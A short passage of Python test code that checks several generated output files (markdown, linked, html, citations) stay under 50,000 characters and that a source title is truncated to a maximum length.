    for key in ("markdown", "linked", "html", "citations"):
        text = result.files[key].read_text(encoding="utf-8")
        assert len(text) < 50_000, (key, len(text))  # each was over 200,000 characters
    assert src[0].title.startswith("Tea Tea") and len(src[0].title) <= MAX_TITLE_CHARS
